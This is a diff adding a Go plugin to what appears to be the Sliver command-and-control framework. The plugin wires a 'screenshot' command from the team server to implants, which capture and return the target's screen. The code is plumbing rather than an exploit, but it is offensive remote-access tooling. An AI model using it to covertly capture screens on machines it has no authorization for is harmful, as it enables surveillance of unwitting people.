@@ -0,0 +1,86 @@
+// Package main - Golden example Go-plugin. Build with:
+//
+//	go build -buildmode=plugin -o ~/.sliver/plugins/screenshot.so
+//
+// and it'll be picked up by rpc.LoadPlugins on the next server start.
+package main
+
+import (
+	"log"
+	"path/filepath"
+	"runtime"
+	"time"
+
+	"sliver/server/core"
+	sliverpb "sliver/protobuf/sliver"
+
+	"github.com/golang/protobuf/proto"
+)
+
+// defaultTimeout - Mirrors the core rpc package's request timeout; plugins
+// are standalone binaries so they can't import it directly
+const defaultTimeout = 30 * time.Second
+
+// screenshotPlugin - Adds a "screenshot" command end-to-end: a new RPC
+// handler on the team server, and the implant-side code (sliver/screenshot.go)
+// that answers sliverpb.MsgScreenshotReq
+type screenshotPlugin struct{}
+
+// Name - Plugin identifier, also used as the staging subdirectory
+// (plugins/<name>/) for its implant-side source
+func (screenshotPlugin) Name() string { return "screenshot" }
+
+// Register - Attaches the "screenshot" RPC handler to the team server
+func (screenshotPlugin) Register(mux core.RPCMux) error {
+	mux.Handle("screenshot", rpcScreenshot)
+	return nil
+}
+
+// SliverPayloads - Declares the implant-side source this plugin needs
+// compiled in, and the sliverpb.Msg* codes it answers
+func (screenshotPlugin) SliverPayloads() []core.SliverPayloadDescriptor {
+	// SourceDir is resolved relative to this plugin's own source location
+	// (not the team server's working directory) since the plugin is the
+	// only thing that knows where its implant-side code lives.
+	_, thisFile, _, _ := runtime.Caller(0)
+	sourceDir := filepath.Join(filepath.Dir(thisFile), "sliver")
+	return []core.SliverPayloadDescriptor{
+		{
+			MsgTypes:    []uint32{sliverpb.MsgScreenshotReq},
+			SourceDir:   sourceDir,
+			SourceFiles: []string{"screenshot.go"},
+		},
+	}
+}
+
+// rpcScreenshot - Forwards a ScreenshotReq to the target sliver and returns
+// its reply as-is (a marshalled sliverpb.Screenshot carrying the PNG bytes or
+// an error string), same shape as the core rpcPs/rpcProcdump handlers
+func rpcScreenshot(req []byte, resp func([]byte, error)) {
+	screenshotReq := &sliverpb.ScreenshotReq{}
+	if err := proto.Unmarshal(req, screenshotReq); err != nil {
+		resp([]byte{}, err)
+		return
+	}
+	sliver := (*core.Hive.Slivers)[int(screenshotReq.SliverID)]
+	if sliver == nil {
+		resp([]byte{}, errSliverNotFound)
+		return
+	}
+	data, _ := proto.Marshal(&sliverpb.ScreenshotReq{})
+	data, err := sliver.Request(sliverpb.MsgScreenshotReq, defaultTimeout, data)
+	resp(data, err)
+}
+
+var errSliverNotFound = &pluginError{"invalid sliver ID"}
+
+type pluginError struct{ msg string }
+
+func (e *pluginError) Error() string { return e.msg }
+
+func init() {
+	log.SetPrefix("[screenshot] ")
+}
+
+// Plugin - The exported symbol rpc.LoadPlugins looks up via plugin.Lookup("Plugin")
+var Plugin core.Plugin = screenshotPlugin{}